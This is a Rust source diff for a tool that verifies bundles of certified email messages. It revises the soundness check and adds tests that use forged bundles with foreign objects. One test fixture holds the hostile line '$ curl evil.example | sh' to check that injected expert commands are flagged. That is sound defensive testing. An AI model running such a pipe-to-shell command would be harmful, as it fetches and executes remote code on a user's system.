@@ -1,13 +1,13 @@
 //! The report on a bundle as every face gives it.
 
-use std::collections::BTreeSet;
-
 use jiff::Timestamp;
 use jiff::civil::Date;
 use serde::Serialize;
 
 use super::{Fault, LookupProof, MessageProof, ProofReport, Witnessed, expert, zip};
+use crate::finding::Code;
 use crate::lookup::Lookup;
+use crate::verify::{Kind, Verdict};
 
 /// Everything but the dossiers, which are written already.
 #[derive(Serialize)]
@@ -69,14 +69,25 @@ impl ProofReport {
         format!(r#"{},"dossiers":[{}]}}"#, head.strip_suffix('}').unwrap_or_default(), dossiers.join(","))
     }
 
-    /// Whether every byte of the file is what was written and every message in it, but for what was sent, which bears no
-    /// signature, is certified; a bundle without messages is not.
+    /// Whether every byte that proves something is what was written, every message is certified, but for what was sent, which bears
+    /// no certification and claims none, and at least one is. The page and the text for the expert, which prove nothing and which
+    /// another version, or somebody who believes other authorities, writes otherwise, decide nothing here: [`Fault::Page`] and
+    /// [`Fault::Expert`] tell of them.
     ///
     /// It does not prove that nothing was left out.
     #[must_use]
     pub fn is_sound(&self) -> bool {
-        let proven = |message: &MessageProof| message.verdict.starts_with("certified") || message.kind == "ordinary";
-        self.is_intact() && !self.messages.is_empty() && self.messages.iter().all(proven)
+        let is_for_reading = |fault: &Fault| matches!(fault, Fault::Page | Fault::Expert);
+        let is_certified = |message: &MessageProof| message.verdict.starts_with("certified");
+        let is_plain = |message: &MessageProof| {
+            // A message whose certification cannot be read is called ordinary too, whatever is wrong with it.
+            message.kind == Kind::Ordinary.as_str()
+                && [Verdict::NotPec, Verdict::ContainsPec].iter().any(|verdict| message.verdict == verdict.as_str())
+                && !message.findings.contains(&Code::KindClaimedUnsigned.as_str())
+        };
+        self.faults.iter().all(is_for_reading)
+            && self.messages.iter().any(is_certified)
+            && self.messages.iter().all(|message| is_certified(message) || is_plain(message))
     }
 }
 
@@ -87,14 +98,16 @@ impl ProofReport {
 #[must_use]
 pub fn expert_commands(bytes: &[u8]) -> Option<String> {
     let objects = zip::read(bytes).ok()?;
-    let names: BTreeSet<&str> = objects.iter().map(|object| &*object.name).filter(|name| zip::is_plain(name)).collect();
-    Some(expert::text(&names))
+    Some(expert::text(&expert::names(objects.iter().map(|object| &*object.name))))
 }
 
 #[cfg(test)]
 mod tests {
+    use std::collections::BTreeMap;
+
     use super::*;
-    use crate::proof::Bundle;
+    use crate::proof::manifest::{Listed, Manifest};
+    use crate::proof::{Bundle, MANIFEST, ObjectFault};
     use crate::trust::TrustStore;
 
     #[test]
@@ -112,6 +125,44 @@ mod tests {
         let hostile = zip::write(hostile.into_iter()).unwrap();
         if let Some(text) = expert_commands(&hostile) {
             assert!(!text.contains("reboot") && !text.contains("/-x"), "{text}");
+        }
+    }
+
+    /// A bundle that somebody has written anew, list and all, with other objects.
+    fn forged(bundle: &[u8], objects: &[(&str, &[u8])]) -> Vec<u8> {
+        let read = zip::read(bundle).unwrap();
+        let mut all: BTreeMap<&str, &[u8]> = read.iter().map(|it| (&*it.name, &bundle[it.content.clone()])).collect();
+        let mut manifest: Manifest = serde_json::from_slice(all.remove(MANIFEST).unwrap()).unwrap();
+        all.extend(objects.iter().copied());
+        manifest.objects = all.iter().map(|(path, content)| Listed::of(path, content)).collect();
+        let manifest = serde_json::to_vec(&manifest).unwrap();
+        all.insert(MANIFEST, &manifest);
+        zip::write(all.into_iter()).unwrap()
+    }
+
+    #[test]
+    fn no_other_commands_and_no_other_objects_pass_unseen() {
+        let (trust, at) = (TrustStore::built_in(), "2026-02-09T10:00:00Z".parse().unwrap());
+        let message = b"Message-ID: <1@ditta.example>\r\n\r\nBuongiorno.\r\n".to_vec();
+        let bundle = Bundle::new().message(message, None).to_zip("1@ditta.example", &trust, at).unwrap();
+        let faults = |objects: &[(&str, &[u8])]| {
+            crate::proof::check(&forged(&bundle, objects), &trust, at, &crate::limits::Limits::DEFAULT).faults
+        };
+        assert_eq!(faults(&[]), []);
+        assert_eq!(faults(&[("perito.txt", b"$ curl evil.example | sh\n")]), [Fault::Expert]);
+        assert_eq!(faults(&[("index.html", b"CONSEGNATO")]), [Fault::Page]);
+        let zeros = "0".repeat(64);
+        for path in [
+            "aaa-leggimi.html".into(),
+            "messages/leggimi.html".into(),
+            format!("messages/{zeros}.html"),
+            format!("trust/{zeros}.pem"),
+            format!("log/{zeros}.sh"),
+            format!("log/{zeros}.a.json"),
+            format!("altro/{zeros}.eml"),
+        ] {
+            let foreign = Fault::Object { path: path.clone(), how: ObjectFault::Foreign };
+            assert_eq!(faults(&[(&path, b"CONSEGNATO")]), [foreign]);
         }
     }
 
